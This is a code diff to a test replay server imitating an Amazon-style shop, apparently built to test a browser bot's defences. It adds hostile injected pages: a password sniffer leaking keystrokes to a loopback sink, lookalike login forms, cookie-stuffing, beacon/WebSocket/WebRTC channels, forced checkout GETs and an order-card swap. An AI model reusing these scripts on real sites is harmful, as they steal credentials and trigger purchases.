@@ -61,6 +61,7 @@ PROTECTED_PREFIXES = (
 )
 STATE_CHANGING = (
     "/cpe/yourpayments/settings/manageoneclick/update",
+    "/gp/buy",  # the checkout (/gp/buy/spc/…, /gp/buy/thankyou/…): even a GET there is a step of buying
     "/checkout/entry/buynow",
     "/your-orders/cancel",
     "/gp/add-to-cart/html",
@@ -98,6 +99,195 @@ HOSTILE_SCRIPTS = {
     "beacon": '<script>navigator.sendBeacon("/your-orders/cancel", "orderId=249-3318462-7720615");</script>',
     "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://phish.example/amazon/signin">',
 }
+# The attack corpus (tests/test_attacks.py): hostile pages and modes, each a named attack a test asks for
+# (ReplaySite(attacks={...})). An attack is injected before </body> of the account pages ("account"), of the
+# sign-in pages ("signin": email, password, code — where scripts run), or of both. Every request it aims at
+# the site goes to a state-changing endpoint (/gp/buy/…, the 1-Click switch, the cancel), so one that got
+# through lands in ``ledger``. @SITE@ is the replay's host:port, @SINK@ a loopback TCP port and @UDP@ a
+# loopback UDP port the test listens on (``sink_port``, ``udp_port``).
+_FRAME_WINDOW = (
+    "function owFrame() { var f = document.createElement('iframe'); f.style.display = 'none';"
+    " (document.body || document.documentElement).appendChild(f); return f.contentWindow; }"
+)
+ATTACKS: dict[str, tuple[str, str]] = {
+    # 1. channels a route cannot see: unload beacons and keepalive fetches, WebSockets, WebRTC
+    "unload-beacons": (
+        "both",
+        "<script>(function () {" + _FRAME_WINDOW + " var w = null; try { w = owFrame(); } catch (e) {}"
+        " function out(tag) {"
+        "  try { navigator.sendBeacon('/gp/buy/beacon/' + tag, 'orderId=249-3318462-7720615'); } catch (e) {}"
+        "  try { fetch('/your-orders/cancel?via=' + tag, {method: 'POST', body: 'orderId=249', keepalive: true}); }"
+        "  catch (e) {}"
+        "  try { fetch('/gp/buy/keepalive-put/' + tag, {method: 'PUT', body: 'x', keepalive: true}); } catch (e) {}"
+        "  try { fetch('/gp/buy/keepalive-get/' + tag, {keepalive: true}); } catch (e) {}"
+        "  try { w.navigator.sendBeacon('/gp/buy/frame-beacon/' + tag, 'x'); } catch (e) {}"
+        "  try { w.fetch('/gp/buy/frame-keepalive/' + tag, {method: 'POST', body: 'x', keepalive: true}); }"
+        "  catch (e) {}"
+        " }"
+        " addEventListener('pagehide', function () { out('pagehide'); });"
+        " addEventListener('unload', function () { out('unload'); });"
+        " addEventListener('beforeunload', function () { out('beforeunload'); });"
+        " document.addEventListener('visibilitychange', function () { out('visibilitychange'); });"
+        "})();</script>",
+    ),
+    "websockets": (
+        "both",
+        "<script>(function () {" + _FRAME_WINDOW + " function open(WS, u) {"
+        "  try { var ws = new WS(u); ws.onopen = function () { ws.send('orderId=249-3318462-7720615'); }; }"
+        "  catch (e) {} }"
+        " ['ws://@SITE@/gp/buy/socket', 'ws://127.0.0.1:@SINK@/page', 'ws://localhost:@SINK@/page']"
+        "  .forEach(function (u) { open(WebSocket, u); });"
+        " try { open(owFrame().WebSocket, 'ws://127.0.0.1:@SINK@/frame'); } catch (e) {}"
+        " try { new Worker(URL.createObjectURL(new Blob(["
+        "  \"new WebSocket('ws://127.0.0.1:@SINK@/worker'); new WebSocket('ws://@SITE@/gp/buy/worker-socket');\""
+        " ], {type: 'text/javascript'}))); } catch (e) {}"
+        "})();</script>",
+    ),
+    "webrtc": (
+        "both",
+        "<script>(function () {" + _FRAME_WINDOW + " function stun(RTC, tag) {"
+        "  try { var pc = new RTC({iceServers: [{urls: 'stun:127.0.0.1:@UDP@'},"
+        "   {urls: 'turn:127.0.0.1:@UDP@?transport=udp', username: 'u', credential: 'p'}]});"
+        "   pc.createDataChannel(tag); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
+        "   window['owpc' + tag] = pc; } catch (e) {} }"
+        " stun(window.RTCPeerConnection || window.webkitRTCPeerConnection, 'page');"
+        " try { stun(owFrame().RTCPeerConnection, 'frame'); } catch (e) {}"
+        "})();</script>",
+    ),
+    # 2. credentials typed into whatever form is in front of the bot
+    "lookalike-form": (
+        "account",
+        '<div class="a-box" id="ow-lookalike"><h2>セキュリティのため、もう一度ログインしてください</h2>'
+        '<form name="signIn" method="get" action="/gp/buy/spc/handlers/static-submit-decoupled.html">'
+        '<input type="email" id="ap_email" name="email"><input type="password" id="ap_password" name="password">'
+        '<input type="submit" id="signInSubmit" value="ログイン"></form></div>',
+    ),
+    "lookalike-form-post": (  # a POST to the real sign-in path, but on an order page: still not typed into
+        "account",
+        '<div class="a-box" id="ow-lookalike"><h2>もう一度ログインしてください</h2>'
+        '<form name="signIn" method="post" action="/ap/signin">'
+        '<input type="email" id="ap_email" name="email"><input type="password" id="ap_password" name="password">'
+        '<input type="submit" id="signInSubmit" value="ログイン"></form></div>',
+    ),
+    "password-sniffer": (
+        "signin",
+        "<script>(function () { var sent = {};"
+        " function leak(v, tag) { if (!v || sent[tag + '|' + v]) { return; } sent[tag + '|' + v] = 1;"
+        "  var q = encodeURIComponent(v);"
+        "  try { new Image().src = '/gp/buy/pixel.gif?k=' + q; } catch (e) {}"
+        "  try { fetch('/gp/buy/collect/' + q); } catch (e) {}"
+        "  try { fetch('/ap/signin?stolen=' + q); } catch (e) {}"
+        "  try { var x = new XMLHttpRequest(); x.open('GET', '/your-orders/orders?k=' + q); x.send(); } catch (e) {}"
+        "  try { new WebSocket('ws://127.0.0.1:@SINK@/k/' + q); } catch (e) {}"
+        "  try { new WebSocket('ws://@SITE@/gp/buy/socket?k=' + q); } catch (e) {}"
+        "  try { window.open('/gp/buy/go?k=' + q); } catch (e) {} }"
+        " function sweep() { document.querySelectorAll('input').forEach(function (el) {"
+        "  if (el.type !== 'hidden') { leak(el.value, el.name || el.id); } }); }"
+        " document.addEventListener('input', function (e) { leak(e.target.value, e.target.name); }, true);"
+        " document.addEventListener('change', function (e) { leak(e.target.value, e.target.name); }, true);"
+        " addEventListener('submit', sweep, true); setInterval(sweep, 15);"
+        "})();</script>",
+    ),
+    "password-cookie": (  # the typed password put into a cookie, which then rides on every request
+        "signin",
+        "<script>(function () { document.addEventListener('input', function (e) {"
+        " if (e.target.type === 'hidden') { return; }"
+        " document.cookie = 'ow-' + e.target.name + '=' + encodeURIComponent(e.target.value) + '; path=/';"
+        " try { localStorage.setItem('ow-' + e.target.name, e.target.value); } catch (x) {}"
+        "}, true); })();</script>",
+    ),
+    # 3. same-site GETs to the checkout or the 1-Click switch
+    "get-frames": (
+        "both",
+        '<iframe src="/gp/buy/spc/handlers/display.html?hasWorkingJavascript=1"></iframe>'
+        '<iframe src="/cpe/yourpayments/settings/manageoneclick/update?enabled=0"></iframe>'
+        '<object data="/gp/buy/spc/object.html" type="text/html"></object><embed src="/gp/buy/spc/embed.html">',
+    ),
+    "get-subresources": (
+        "both",
+        '<script src="/gp/buy/thankyou/handlers/display.js"></script>'
+        '<link rel="stylesheet" href="/gp/buy/spc/style.css">'
+        '<style>@import url("/cpe/yourpayments/settings/manageoneclick/update?enabled=0&via=import");</style>',
+    ),
+    "get-hints": (
+        "both",
+        '<link rel="prefetch" href="/gp/buy/spc/prefetch"><link rel="prerender" href="/gp/buy/spc/prerender">'
+        '<link rel="preload" as="fetch" href="/gp/buy/spc/preload-fetch" crossorigin>'
+        '<link rel="preload" as="document" href="/gp/buy/spc/preload-document">'
+        '<link rel="preload" as="script" href="/gp/buy/spc/preload.js">'
+        '<link rel="preload" as="style" href="/cpe/yourpayments/settings/manageoneclick/update?enabled=0">'
+        '<link rel="modulepreload" href="/gp/buy/spc/module.js">',
+    ),
+    "speculation-rules": (
+        "both",
+        '<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["/gp/buy/spc/speculation"]}],'
+        ' "prefetch": [{"source": "list", "urls": ["/gp/buy/spc/speculation-prefetch"]}]}</script>',
+    ),
+    "get-meta-refresh": ("both", '<meta http-equiv="refresh" content="0;url=/gp/buy/spc/refresh">'),
+    "get-anchor-ping": (
+        "both",
+        '<a id="ow-ping" href="/gp/buy/spc/ping-target" ping="/gp/buy/spc/ping">おすすめ</a>'
+        "<script>setTimeout(function () { document.getElementById('ow-ping').click(); }, 0);</script>",
+    ),
+    "get-fetch-xhr": (
+        "both",
+        "<script>try { fetch('/gp/buy/spc/fetch'); } catch (e) {}"
+        " try { fetch('/gp/buy/spc/fetch-head', {method: 'HEAD'}); } catch (e) {}"
+        " try { var x = new XMLHttpRequest();"
+        " x.open('GET', '/cpe/yourpayments/settings/manageoneclick/update?enabled=0'); x.send(); } catch (e) {}"
+        "</script>",
+    ),
+    "get-eventsource": ("both", "<script>try { new EventSource('/gp/buy/spc/events'); } catch (e) {}</script>"),
+    "get-workers": (
+        "both",
+        "<script>try { new Worker('/gp/buy/spc/worker.js'); } catch (e) {}"
+        " try { new SharedWorker('/gp/buy/spc/shared-worker.js'); } catch (e) {}"
+        " try { navigator.serviceWorker.register('/gp/buy/spc/sw.js'); } catch (e) {}"
+        " try { new Worker(URL.createObjectURL(new Blob(["
+        "  \"fetch('/gp/buy/spc/from-worker'); fetch('/gp/buy/spc/from-worker-keepalive', {keepalive: true});"
+        "  var x = new XMLHttpRequest(); x.open('GET', '/cpe/yourpayments/settings/manageoneclick/update?w=1');"
+        "  x.send();\"], {type: 'text/javascript'}))); } catch (e) {}</script>",
+    ),
+    "get-location": (
+        "both",
+        "<script>setTimeout(function () { location.assign('/gp/buy/spc/location'); }, 0);"
+        " setTimeout(function () { location.replace('/cpe/yourpayments/settings/manageoneclick/update?enabled=0');"
+        " }, 30);</script>",
+    ),
+    "get-form": (
+        "both",
+        '<form id="ow-get" method="get" action="/cpe/yourpayments/settings/manageoneclick/update">'
+        '<input type="hidden" name="enabled" value="0"></form>'
+        "<script>setTimeout(function () { document.getElementById('ow-get').submit(); }, 0);</script>",
+    ),
+    "get-window-open": (
+        "both",
+        "<script>try { window.open('/gp/buy/spc/popup'); } catch (e) {}"
+        " try { window.open('/cpe/yourpayments/settings/manageoneclick/update?enabled=0', 'ow', 'popup'); }"
+        " catch (e) {}</script>",
+    ),
+    # 5. scripts adding or hiding order cards: the first card removed (its hidden copy too), a fake one added
+    "card-swap": (
+        "account",
+        "<script>(function () { var box = document.getElementById('ordersContainer'); if (!box) { return; }"
+        " var cards = box.querySelectorAll('.order-card'); if (cards.length < 2) { return; }"
+        " var id = cards[0].querySelector('.yohtmlc-order-id span[dir=ltr]').textContent.trim();"
+        " var fake = cards[1].cloneNode(true);"
+        " var fakeId = fake.querySelector('.yohtmlc-order-id span[dir=ltr]');"
+        " fake.innerHTML = fake.innerHTML.split(fakeId.textContent.trim()).join('503-6660666-0000001');"
+        " box.querySelectorAll('.order-card').forEach(function (c) {"
+        "  if (c.innerHTML.indexOf(id) >= 0) { c.remove(); } });"
+        " box.insertBefore(fake, box.firstChild); })();</script>",
+    ),
+}
+# Attacks that are answers of the site rather than markup.
+ATTACK_MODES = frozenset(
+    {
+        "signin-form-get",  # the password page's form uses GET (the password would go into a URL)
+        "signin-302-buy",  # the password POST is answered with a 302 to a checkout page
+    }
+)
+SIGNIN_TEMPLATES = ("signin-email.html", "signin-password.html", "mfa.html")
 
 
 @dataclass(frozen=True)
@@ -123,6 +313,10 @@ class ReplaySite:
     templates: Path = DEMO_DIR
     ledger: list[LedgerEntry] = field(default_factory=list)
     requests: list[tuple[str, str]] = field(default_factory=list)
+    raw_requests: list[bytes] = field(default_factory=list)  # every request as it arrived: line, headers, body
+    attacks: frozenset[str] = frozenset()  # named hostile pages and modes (ATTACKS, ATTACK_MODES)
+    sink_port: int = 9  # a loopback TCP port the attacks aim WebSockets at (a test listens there)
+    udp_port: int = 9  # a loopback UDP port the attacks aim STUN/TURN at (a test listens there)
     one_click_enabled: bool | None = None
     history_layout: str = "2025"  # "2026": count in the time filter's <b>, pagination by page=N
     summary_template: str | None = None  # None: per order (account.toml); "legacy" | "unified" for all
@@ -138,6 +332,10 @@ class ReplaySite:
         if unknown:
             raise ValueError(f"unknown faults {sorted(unknown)}; known: {sorted(FAULTS)}")
         self.faults = frozenset(self.faults)
+        unknown = set(self.attacks) - set(ATTACKS) - ATTACK_MODES
+        if unknown:
+            raise ValueError(f"unknown attacks {sorted(unknown)}; known: {sorted(set(ATTACKS) | ATTACK_MODES)}")
+        self.attacks = frozenset(self.attacks)
         if self.history_layout not in HISTORY_LAYOUTS:
             raise ValueError(f"history_layout must be one of {HISTORY_LAYOUTS}")
         if self.summary_template is not None and self.summary_template not in SUMMARY_TEMPLATES:
@@ -193,9 +391,10 @@ class ReplaySite:
     def signin_requests(self) -> list[tuple[str, str]]:
         return [r for r in self.requests if urlsplit(r[1]).path.startswith("/ap/")]
 
-    def record(self, method: str, path: str) -> None:
+    def record(self, method: str, path: str, raw: bytes = b"") -> None:
         with self._lock:
             self.requests.append((method, path))
+            self.raw_requests.append(raw)
 
     def record_ledger(self, method: str, path: str, fields: tuple[str, ...]) -> None:
         entry = LedgerEntry(method, path, fields, time.time())
@@ -232,7 +431,27 @@ class ReplaySite:
     def render(self, template: str, **ctx: Any) -> str:
         hostile = "".join(HOSTILE_SCRIPTS[f] for f in sorted(self.faults) if f in HOSTILE_SCRIPTS)
         ctx.setdefault("hostile_html", hostile if ctx.get("signed_in") else "")
-        return self.env.get_template(template).render(account=self.account, **ctx)
+        html = self.env.get_template(template).render(account=self.account, **ctx)
+        return self._attacked(template, html, signed_in=bool(ctx.get("signed_in")))
+
+    def _attacked(self, template: str, html: str, *, signed_in: bool) -> str:
+        """The page with the attacks meant for it (sign-in pages, or account pages) before its </body>."""
+        if not self.attacks:
+            return html
+        place = "signin" if template in SIGNIN_TEMPLATES else "account" if signed_in else None
+        if template == "signin-password.html" and "signin-form-get" in self.attacks:
+            html = html.replace('name="signIn" method="post"', 'name="signIn" method="get"')
+        markup = "".join(
+            ATTACKS[a][1] for a in sorted(self.attacks) if a in ATTACKS and ATTACKS[a][0] in (place, "both")
+        )
+        if not markup or place is None:
+            return html
+        assert self._server is not None
+        site = "{}:{}".format(*self._server.server_address[:2])
+        markup = markup.replace("@SITE@", site).replace("@SINK@", str(self.sink_port))
+        markup = markup.replace("@UDP@", str(self.udp_port))
+        head, tail = html.rsplit("</body>", 1) if "</body>" in html else (html, "")
+        return head + markup + "</body>" + tail
 
     def order_history_html(self, time_filter: str = "last30", start: int = 0) -> str:
         """The order-history page as the site serves it: 10 orders from ``start``, the filter's total
@@ -292,6 +511,7 @@ class _QuietServer(ThreadingHTTPServer):
 
 class _Handler(BaseHTTPRequestHandler):
     site: ReplaySite
+    _body: bytes = b""  # of the request being answered
     server_version = "Server"
     sys_version = ""
 
@@ -304,8 +524,7 @@ class _Handler(BaseHTTPRequestHandler):
         return {k: m.value for k, m in jar.items()}
 
     def _form(self) -> dict[str, str]:
-        length = int(self.headers.get("Content-Length") or 0)
-        raw = self.rfile.read(length).decode("utf-8", "replace") if length else ""
+        raw = self._body.decode("utf-8", "replace")
         return {k: v[0] for k, v in parse_qs(raw, keep_blank_values=True).items()}
 
     def _send(self, body: str, status: int = 200, cookies: tuple[str, ...] = (), ctype: str = "text/html") -> None:
@@ -352,7 +571,10 @@ class _Handler(BaseHTTPRequestHandler):
 
     def _dispatch(self) -> None:
         site = self.site
-        site.record(self.command, self.path)
+        length = int(self.headers.get("Content-Length") or 0)
+        self._body = self.rfile.read(length) if length else b""
+        head = self.requestline.encode("latin-1") + b"\r\n" + bytes(self.headers)
+        site.record(self.command, self.path, head + self._body)
         url = urlsplit(self.path)
         path, query = url.path, {k: v[0] for k, v in parse_qs(url.query).items()}
         if any(path.startswith(p) for p in STATE_CHANGING):
@@ -457,6 +679,9 @@ class _Handler(BaseHTTPRequestHandler):
             }.get(site.signin_outcome)
             if stop_page:
                 self._send(site.render(stop_page))
+                return
+            if "signin-302-buy" in site.attacks:  # a hostile answer: straight on to a checkout page
+                self._redirect("/gp/buy/spc/handlers/display.html?referrer=signin")
                 return
             if "signin-307" in site.faults:  # a hostile answer: re-send the credentials' POST to the buy endpoint
                 self.send_response(HTTPStatus.TEMPORARY_REDIRECT)
